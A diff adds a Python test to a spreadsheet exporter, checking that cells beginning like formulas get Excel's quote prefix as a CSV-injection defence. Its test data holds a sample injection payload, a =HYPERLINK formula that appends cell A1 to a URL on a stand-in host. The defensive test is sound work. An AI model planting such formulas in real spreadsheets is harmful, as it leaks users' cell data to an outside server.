@@ -67,6 +67,26 @@ def test_the_workbook_reads_back_as_written(tmp_path: Path, mode: str) -> None:
     assert book.properties.title == "数据表" and book.properties.created == WHEN
 
 
+def test_text_that_starts_like_a_formula_stays_text_when_a_reader_edits_it(
+    tmp_path: Path, mode: str
+) -> None:
+    """OWASP's CSV-injection escape, in XLSX form: the cell carries Excel's quote prefix (the
+    leading single quote), so pressing Enter in it keeps text instead of making a live
+    =HYPERLINK; its text reads back unchanged, and other text gets no prefix."""
+    link = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'
+    rows: list[list[object]] = [
+        [1, link, "@SUM(1+1)", "+86 10", "-5%", "\t=1"],
+        [2, "科技", "", "", 3, ""],
+    ]
+    path = tmp_path / "x.xlsx"
+    path.write_bytes(workbook_bytes(_sheets(rows), timestamp=WHEN, title="t", author="a"))
+    sheet = load_workbook(path)["措施"]
+    for cell, text in zip(sheet[2][1:], rows[0][1:], strict=True):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+    assert not sheet["B3"].quotePrefix and not sheet["E3"].quotePrefix
+    assert not sheet["B1"].quotePrefix  # the bold header keeps its own format
+
+
 def test_text_that_looks_like_markup_stays_text(tmp_path: Path, mode: str) -> None:
     # XlsxWriter writes such a string as raw XML.
     rows: list[list[object]] = [[1, "<r><t>注入</t></r>", "", "", "", ""]]
